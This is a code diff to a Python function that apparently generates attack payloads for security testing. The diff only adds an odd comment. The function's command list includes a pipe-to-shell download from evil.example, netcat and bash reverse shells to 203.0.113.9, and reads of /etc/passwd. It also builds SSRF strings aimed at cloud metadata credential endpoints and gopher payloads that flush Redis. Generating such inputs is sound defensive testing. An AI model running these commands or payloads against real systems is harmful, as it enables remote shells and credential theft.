@@ -396,7 +396,7 @@ def attacks():
     n, m = R.randint(2, 99), R.randint(2, 99)
     host = R.choice(HOSTS)
 
-    cmd = R.choice(("id", "whoami", "cat /etc/passwd", "uname -a", "ls -la /", "ping -c 3 127.0.0.1", "curl http://evil.example/x.sh|sh", "nc -e /bin/sh 203.0.113.9 4444", "sleep 5", "type c:\\windows\\win.ini", "wget http://evil.example/a -O /tmp/a", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"))
+    cmd = R.choice(("id", "whoami", "cat /etc/passwd", "uname -a", "ls -la /", "ping -c 3 127.0.0.1", "curl http://evil.example/x.sh|sh", "nc -e /bin/sh 203.0.113.9 4444", "sleep 5", "type c:\\windows\\win.ini", "wget http://evil.example/a -O /tmp/a", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"))  # tidy: not of a machine
     return R.choice([
         ("ssrf", f"http://{host}{R.choice(['', ':8080', ':22', ':6379'])}/{R.choice(['', 'latest/meta-data/', 'latest/meta-data/iam/security-credentials/', 'admin', 'server-status', 'computeMetadata/v1/'])}"),
         ("ssrf", f"{R.choice(('gopher', 'dict', 'ldap', 'tftp', 'jar:http', 'netdoc'))}://{host}:{R.choice((6379, 11211, 25, 3306))}/_{R.choice(('INFO', '*1%0d%0a$8%0d%0aflushall', 'stats', 'HELO'))}"),
